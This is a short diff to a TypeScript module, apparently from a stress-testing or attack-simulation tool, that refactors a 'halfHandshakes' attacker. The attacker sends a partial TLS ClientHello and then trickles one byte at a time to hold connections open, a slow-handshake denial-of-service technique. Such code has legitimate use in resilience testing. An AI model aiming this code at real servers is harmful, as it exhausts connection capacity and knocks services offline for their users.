@@ -1,5 +1,5 @@
 import type { Attacker } from '../lib/attacker.ts';
-import { type ConnectionOptions, keepConnections } from '../lib/connections.ts';
+import { type ConnectionOptions, keepConnections, writeEvery } from '../lib/connections.ts';
 
 /** The head of a TLS record with a ClientHello of 512 bytes, of which the rest comes one byte a second (RFC 8446 §4.1.2). */
 const HELLO_HEAD = Buffer.from([0x16, 3, 1, 2, 0, 1, 0, 1, 0xfc, 3, 3]);
@@ -11,8 +11,7 @@ export const halfHandshakes =
   (context) =>
     keepConnections(context, { ...options, secure: false }, (socket, signal) => {
       socket.write(HELLO_HEAD);
-      const timer = setInterval(() => socket.write(Buffer.alloc(1)), BYTE_MS);
-      signal.addEventListener('abort', () => clearInterval(timer), { once: true });
+      writeEvery(BYTE_MS, socket, { signal, bytes: Buffer.alloc(1) });
       socket.resume();
     });
 
